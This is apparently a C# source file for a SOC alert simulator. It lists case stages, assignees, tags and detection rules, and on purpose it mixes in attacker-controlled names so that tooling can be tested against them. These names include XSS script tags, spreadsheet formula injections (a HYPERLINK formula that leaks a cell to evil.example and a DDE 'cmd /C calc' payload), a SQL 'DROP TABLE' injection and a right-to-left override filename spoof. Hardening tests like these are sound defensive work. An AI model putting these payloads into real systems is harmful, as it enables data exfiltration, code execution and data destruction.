using static System.FormattableString;

namespace Mttx.Simulator.Soc;

/// <summary>
/// The names that cases bear. Among them are those that an attacker who names hosts, mails and files can bring into a SOC's data:
/// markup, formulas, quotes, control and direction characters, separators, very long ones.
/// </summary>
internal static class SocNames
{
    public const int TruePositive = 0;
    public const int FalsePositive = 1;
    public const int Benign = 2;
    public const int Vip = 9;
    public const int FirstHostileTag = 12;
    public const int FirstHostileRule = 20;

    public static readonly string[] Stages = ["Triage", "Assessment", "Investigation", "Incident", "Improvement", "Research", "Waiting for customer"];

    public static readonly string[] Priorities = ["PRIORITY_INFO", "PRIORITY_LOW", "PRIORITY_MEDIUM", "PRIORITY_HIGH", "PRIORITY_CRITICAL"];

    public static readonly string[] Environments = ["Production", "Corporate", "Cloud", "OT Plant Graz", "Default Environment", "<img src=x onerror=alert(1)>"];

    /// <summary>A role, a playbook, then three people for each shift of eight hours.</summary>
    public static readonly string[] Assignees =
    [
        "@Tier1", "playbook_autoclose",
        "mia.bauer@example.com", "li.wei@example.com", "tomas.novak@example.com",
        "aisha.khan@example.com", "jonas.berg@example.com", "sofia.rossi@example.com",
        "o'brien+soc@example.com", "\"Pat <b>Quinn</b>\" <pat@example.com>", "yuki.tanaka@example.com",
    ];

    public static readonly string[] Tags =
    [
        "True Positive", "False Positive", "Benign", "Phishing", "Malware", "Identity", "Cloud", "Endpoint", "Network", "VIP",
        "Needs tuning", "Escalated",
        "<script>alert('tag')</script>", "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "a,b|c;d", "@SUM(1+1)*cmd|' /C calc'!A0",
        "\u202Egnp.exe\u202C", "line\nbreak\ttab", "🔥 urgent 🔥", "'; DROP TABLE cases;--",
    ];

    public static readonly DetectionRule[] Rules =
    [
        new("Impossible travel", 14, 0.06, 2, 900, 0.55, 5),
        new("Failed logins above baseline", 16, 0.02, 1, 300, 0.75, 5),
        new("Suspicious PowerShell", 8, 0.22, 3, 240, 0.15, 7),
        new("Office spawns shell", 4, 0.45, 3, 180, 0.05, 4),
        new("Phishing reported by user", 12, 0.30, 2, 5400, 0.10, 3),
        new("Mass download from cloud storage", 4, 0.25, 3, 3600, 0.05, 6),
        new("New admin in cloud project", 5, 0.12, 3, 420, 0.30, 6),
        new("DNS to newly seen domain", 13, 0.01, 0, 1200, 0.85, 8),
        new("Port scan from inside", 9, 0.05, 1, 600, 0.60, 8),
        new("Ransomware note written", 0.6, 0.85, 4, 60, 0, 4),
        new("Credential dumping", 1.5, 0.70, 4, 120, 0, 7),
        new("Impossible MFA fatigue", 3, 0.40, 3, 700, 0.05, 5),
        new("USB device on OT host", 2, 0.10, 2, 1500, 0.20, 7),
        new("Beaconing", 2.5, 0.35, 3, 10800, 0.05, 8),
        new("Service account key created", 4, 0.08, 2, 300, 0.40, 6),
        new("Log source silent", 5, 0.03, 1, 14400, 0.35, 8),
        new("Rare parent process", 7, 0.07, 1, 480, 0.50, 7),
        new("Data to personal mail", 2.5, 0.28, 2, 2400, 0.05, 3),
        new("Lateral movement over SMB", 1.2, 0.60, 4, 200, 0, 8),
        new("Web shell", 0.8, 0.75, 4, 150, 0, 4),
        new("<script>alert('rule')</script>", 0.5, 0.2, 2, 600, 0.2, 4),
        new("=cmd|' /C calc'!A0", 0.4, 0.2, 2, 600, 0.2, 4),
        new("Règle « été » – 検出 🛡️ \u202Eelur\u202C", 0.6, 0.2, 2, 600, 0.2, 3),
        new(Invariant($"Very long {string.Concat(Enumerable.Repeat("name of a rule, ", 18))}end"), 0.4, 0.2, 2, 600, 0.2, 3),
    ];

    public static readonly double WeightOfRules = Rules.Sum(rule => rule.Weight);
}
